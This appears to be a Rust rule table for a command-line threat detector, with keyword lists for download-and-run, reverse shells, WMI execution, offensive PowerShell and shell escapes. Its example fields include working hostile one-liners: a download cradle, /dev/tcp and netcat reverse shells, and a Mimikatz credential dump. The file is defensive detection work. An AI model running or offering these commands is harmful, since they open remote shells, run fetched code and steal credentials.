//! Rules for execution: interpreters, shells, WMI, downloads that run, containers.
//!
//! Data only; [`super`] says how it is read. Keep a row small: what needs more than three groups is two rules.

use super::Level::{High, Low, Medium};
use super::Rule;

pub(super) const RULES: &[Rule] = &[
    Rule {
        name: "download_and_run",
        level: High,
        technique: "T1059.001",
        description: "a script is downloaded and run",
        all: &[
            "\
                downloadstring;;downloaddata;;invoke-webrequest;;=iwr;;=irm;;invoke-restmethod;;\
                net.webclient;;openread(;;xmlhttp;;winhttp;;webrequest]",
            "\
                =iex;;invoke-expression;;.invoke(;;scriptblock]::create;;start-process;;.exec(;;\
                & $;;invokecommand;;assembly]::load;;-outfile;;downloadfile",
        ],
        none: "",
        example: "powershell IEX (New-Object Net.WebClient).DownloadString(\"http://a.b/c\")",
        near_miss: "Invoke-WebRequest -Uri https://a.b/health",
    },
    Rule {
        name: "invoke_expression",
        level: Medium,
        technique: "T1059.001",
        description: "a text is run as code",
        all: &["\
            =iex;;invoke-expression;;scriptblock]::create;;invokescript;;.invokecommand;;\
            executioncontext"],
        none: "",
        example: "$x | IEX",
        near_miss: "Invoke-Pester",
    },
    Rule {
        name: "policy_bypass",
        level: Low,
        technique: "T1059.001",
        description: "the script policy is bypassed",
        all: &[
            "bypass;;unrestricted;;-noprofile;;=-nop;;=-noni;;=-ep;;=-exec;;set-executionpolicy",
            "powershell;;pwsh;;set-executionpolicy",
        ],
        none: "",
        example: "powershell -ep bypass -file a.ps1",
        near_miss: "Get-ExecutionPolicy",
    },
    Rule {
        name: "net_type_in_script",
        level: Low,
        technique: "T1059.001",
        description: "a script reaches into the framework",
        all: &["\
            [net.;;[system.net;;net.sockets;;[text.encoding;;[convert];;[system.text;;[io.;;\
            [system.io;;[runtime.interop;;[system.reflection;;[diagnostics;;[security.;;[adsi;;\
            [system.directory;;directorysearcher;;[environment];;system.management;;new-object"],
        none: "",
        example: "[System.Net.Dns]::GetHostName()",
        near_miss: "[int]5",
    },
    Rule {
        name: "com_object",
        level: Low,
        technique: "T1559.001",
        description: "a COM object is made from a script",
        all: &["\
            -comobject;;createobject;;getobject(;;gettypefromclsid;;gettypefromprogid;;\
            activator]::;;activexobject;;wscript.shell;;shell.application"],
        none: "",
        example: "New-Object -ComObject WScript.Shell",
        near_miss: "New-Object PSObject",
    },
    Rule {
        name: "script_host",
        level: Low,
        technique: "T1059.005",
        description: "a script host runs a script",
        all: &["@wscript;;@cscript;;.vbs;;.vbe;;.jse;;.wsf;;.wsh;;.sct"],
        none: "",
        example: "cscript c:\\x\\y.vbs",
        near_miss: "type y.txt",
    },
    Rule {
        name: "wmic_process_create",
        level: High,
        technique: "T1047",
        description: "a process is started through WMI",
        all: &[
            "@wmic;;win32_process;;invoke-wmimethod;;invoke-cimmethod;;wmiclass",
            "\
                call create;;process call;;.create(;;-name create;;create -argument;;\
                methodname create",
        ],
        none: "",
        example: "wmic /node:x process call create calc.exe",
        near_miss: "wmic cpu get name",
    },
    Rule {
        name: "wmic_stylesheet",
        level: High,
        technique: "T1220",
        description: "wmic runs a stylesheet",
        all: &["@wmic", "/format:http;;.xsl;;/format:\\\\;;/format:evil"],
        none: "",
        example: "wmic os get /format:http://a.b/c.xsl",
        near_miss: "wmic os get /format:csv",
    },
    Rule {
        name: "wmi_query",
        level: Low,
        technique: "T1047",
        description: "WMI is queried or changed",
        all: &["\
            @wmic;;get-wmiobject;;=gwmi;;get-ciminstance;;=gcim;;win32_;;invoke-wmi;;invoke-cim;;\
            root\\;;set-wmiinstance;;[wmi"],
        none: "",
        example: "wmic qfe list",
        near_miss: "winget list",
    },
    Rule {
        name: "offensive_powershell",
        level: High,
        technique: "T1059.001",
        description: "a cmdlet of an attack framework",
        all: &["\
            invoke-mimikatz;;invoke-kerberoast;;invoke-bloodhound;;invoke-sharphound;;\
            invoke-wmiexec;;invoke-smbexec;;invoke-psinject;;invoke-tokenmanip;;\
            invoke-powershelltcp;;invoke-dcom;;invoke-atomic;;invoke-inveigh;;invoke-userhunter;;\
            invoke-sharefinder;;invoke-privesc;;invoke-allchecks;;invoke-obfuscation;;\
            invoke-portscan;;invoke-prompt;;invoke-clipboard;;invoke-keystroke;;invoke-dns;;\
            powerview;;powerup;;powersploit;;nishang;;empire;;get-gpppassword;;get-keystrokes;;\
            get-timedscreenshot;;out-minidump;;get-vaultcredential;;find-localadminaccess;;\
            get-domaincontroller;;get-netuser;;get-netdomain;;add-domainobjectacl;;mailsniper;;\
            powercat;;invoke-aadint;;aadinternals;;invoke-ninja;;winpwn;;jaws-enum;;\
            invoke-webshell;;new-gpoimmediatetask;;invoke-evasion;;invoke-stealth;;copy-vss;;\
            invoke-ntlm;;invoke-spray;;invoke-domainpasswordspray;;psattack;;get-passhashes;;\
            invoke-runas;;toastnotify"],
        none: "",
        example: "Invoke-Mimikatz -DumpCreds",
        near_miss: "Invoke-Pester -Path x",
    },
    Rule {
        name: "shell_start_chain",
        level: Low,
        technique: "T1059.003",
        description: "a shell starts something detached or another shell",
        all: &[
            "@cmd;;%comspec%",
            "\
                start /b;;start /min;;/c start;;cmd /c cmd;;cmd.exe /c cmd;;/c powershell;;| cmd;;\
                |cmd;; /k ;;&&powershell;;/q /c",
        ],
        none: "",
        example: "cmd /c start /b x.exe",
        near_miss: "cmd /c dir",
    },
    Rule {
        name: "user_writable_path",
        level: Low,
        technique: "T1204.002",
        description: "a place that every user can write to",
        all: &["\
            \\temp\\;;%temp%;;$env:temp;;\\appdata\\;;%appdata%;;$env:appdata;;\\downloads\\;;\
            \\users\\public;;\\programdata\\;;%programdata%;;$env:programdata;;%localappdata%;;\
            $env:localappdata;;\\desktop\\;;$recycle.bin;;\\perflogs;;%tmp%;;$env:public;;\
            %public%;;c:\\temp;;c:\\tmp;;windows\\tasks;;windows\\debug;;windows\\tracing;;\
            spool\\drivers"],
        none: "",
        example: "C:\\Users\\Public\\x.exe",
        near_miss: "C:\\Windows\\explorer.exe",
    },
    Rule {
        name: "reverse_shell_device",
        level: High,
        technique: "T1059.004",
        description: "a shell is bound to a network device",
        all: &["/dev/tcp/;;/dev/udp/;;/inet/tcp;;/inet/udp;;/inet/"],
        none: "",
        example: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        near_miss: "cat /dev/null",
    },
    Rule {
        name: "reverse_shell_tool",
        level: High,
        technique: "T1059.004",
        description: "a network tool is given a shell",
        all: &[
            "\
                @nc;;@ncat;;@netcat;;@nc.traditional;;@nc.openbsd;;@telnet;;@socat;;@busybox nc;;\
                @openssl;;@rcat;;@cryptcat",
            "\
                -e /bin;;-e sh;;-e bash;;-e cmd;;-c /bin;;-c bash;;-c sh;;| /bin/sh;;| sh;;|sh;;\
                | bash;;|bash;;mkfifo;;exec:;;-e powershell;;--exec;;--sh-exec;;| /bin/bash;;\
                |/bin/sh;;|/bin/bash;;-e /usr;;system:",
        ],
        none: "",
        example: "nc -e /bin/sh 10.0.0.1 4444",
        near_miss: "nc -zv db 5432",
    },
    Rule {
        name: "reverse_shell_script",
        level: High,
        technique: "T1059",
        description: "an interpreter is bound to a socket",
        all: &[
            "\
                socket;;fsockopen;;tcpsocket;;=pty;;net.dial;;io.socket;;net.connect;;tcpclient;;\
                stream_socket;;usocket;;socket::inet",
            "\
                subprocess;;pty.spawn;;dup2;;/bin/sh;;/bin/bash;;os.system;;exec(;;proc_open;;\
                spawn;;getstream;;io.popen;;cmd.exe;;>&s;;execl;;sockaddr;;connect(;;shell_exec;;\
                passthru;;popen;;>&3;;<&3",
        ],
        none: "docker.sock",
        example: "python -c \"import socket,subprocess,os;s=socket.socket()\"",
        near_miss: "systemctl list-sockets",
    },
    Rule {
        name: "pty_upgrade",
        level: Medium,
        technique: "T1059.006",
        description: "a shell gets a terminal or escapes from a program",
        all: &["\
            pty.spawn;;import pty;;os.system;;os.exec;;subprocess;;child_process;;kernel.exec;;\
            io.popen;;os.execute;;os.popen;;-execute;;exec /bin;;exec sh;;exec bash;;exec=/bin;;\
            !/bin/;;system(;;exec(;;shell_exec;;proc_open;;passthru;;popen(;;spawn(;;execvp;;\
            execl;;posix_spawn;;runtime.exec;;getruntime;;--eval;;call system;;pcntl_exec;;\
            execute("],
        none: "",
        example: "python3 -c \"import pty;pty.spawn('/bin/bash')\"",
        near_miss: "pytest tests",
    },
    Rule {
        name: "shell_as_argument",
        level: Medium,
        technique: "T1059.004",
        description: "a shell is handed to another program",
        all: &["\
             /bin/sh;; /bin/bash;;=/bin/sh;;=/bin/bash;; /bin/dash;; /bin/zsh;;-e sh ;;!sh;;\
            !/bin;;|sh ;;exec /bin;;:/bin/sh;;sh -p;;bash -p;;-c sh ;;busybox sh;;/bin/sh -;;\
            reset; sh;;sh 1>&0;;sh <;; bash -i;;sh -i;;-c bash;;@rbash;;c=sh;; /bin/csh;;-p bash;;\
            =sh "],
        none: "",
        example: "strace -o /dev/null /bin/sh",
        near_miss: "ls /bin",
    },
    Rule {
        // Half of what a Linux host runs: nothing to suspect, and nothing to call benign unread.
        name: "inline_shell",
        level: Low,
        technique: "T1059.004",
        description: "a shell runs what its argument says",
        all: &["bash -c;;sh -c;;sh "],
        none: "",
        example: "bash -c id",
        near_miss: "ls /bin",
    },
    Rule {
        name: "container_run",
        level: Low,
        technique: "T1610",
        description: "a container is run or entered",
        all: &["\
            docker run;;docker exec;;docker cp;;docker load;;docker import;;docker commit;;\
            docker save;;podman run;;podman exec;;lxc ;;nerdctl;;apptainer;;singularity;;\
            docker login;;docker swarm;;-h open;;tcp://;;docker service;;docker create;;\
            docker container run;;docker container exec;;docker rm;;docker stop"],
        none: "",
        example: "docker run alpine",
        near_miss: "docker images",
    },
    Rule {
        name: "macos_script",
        level: Medium,
        technique: "T1059.002",
        description: "AppleScript or a macOS guard is used",
        all: &["\
            @osascript;;do shell script;;display dialog;;com.apple.quarantine;;@tccutil;;tcc.db;;\
            @xattr;;@spctl;;@csrutil;;@scutil;;@systemsetup;;@networksetup;;@ioreg;;@sw_vers;;\
            @system_profiler;;@defaults;;@plutil;;@pbpaste;;@screencapture;;@dscl;;@profiles;;\
            @softwareupdate;;@kextstat;;@mdfind;;@automator;;@nvram;;@launchctl;;@hdiutil;;\
            @codesign;;@installer;;@chflags;;@setfile;;@dsenableroot;;@airport;;@say;;@sips;;\
            @tmutil"],
        none: "",
        example: "osascript -e \"display dialog x\"",
        near_miss: "open x.html",
    },
    Rule {
        name: "temporary_place",
        level: Low,
        technique: "T1204.002",
        description: "a place that every user can write to",
        all: &["/tmp;;/var/tmp;;$tmpdir;;/users/shared;;/private/tmp;;mktemp"],
        none: "",
        example: "cp a /tmp/b",
        near_miss: "cp a b",
    },
    Rule {
        name: "interpreter_one_liner",
        level: Low,
        technique: "T1059",
        description: "an interpreter is given code on the line",
        all: &["\
            python -c;;python2 -c;;python3 -c;;perl -e;;perl -n;;ruby -e;;php -r;;node -e;;\
            lua -e;;awk begin;;awk {;;awk -f;;tclsh;;jrunscript;;jshell;;gdb -;;expect -;;\
            deno eval;;julia -e;;rscript;;irb;;python -m;;python3 -m;;python - ;;python3 - ;;\
            perl -;;php -a;;@gawk;;@mawk;;@nawk;;@ed;;@vi;;@vim;;@emacs;;@nano -;;sed -n;;@jjs;;\
            @ghc;;@octave;;@cpan;;@pip install;;@gem install;;@npm install;;@easy_install;;\
            @go run;;@cargo install"],
        none: "",
        example: "python3 -c \"print(1)\"",
        near_miss: "python3 --version",
    },
    Rule {
        name: "shell_escape_option",
        level: Medium,
        technique: "T1202",
        description: "an option that makes a program run another",
        all: &["\
            --checkpoint-action;;--to-command;;--use-compress-program;;-i /bin;;--rsh;;\
            proxycommand;;permitlocalcommand;;localcommand;;-exec ;;-execdir;;-ok ;;--pager;;\
            core.pager;;alias.;;-oproxy;;pager=;;editor=;;--exec;;--command;;unlock-command;;\
            startup-script;;--init;;--login;;-e exec;;--shell;;shell=;;tcpwrapped;;--post;;\
            --hook;;ext::;;--upload-pack;;--script;;-s exec;;--on-;;--rcfile;;--plugin;;-x sh;;\
            --run;;--eval;;reload-command"],
        none: "",
        example: "tar cf x y --checkpoint-action=exec=sh",
        near_miss: "tar czf x.tgz y",
    },
];
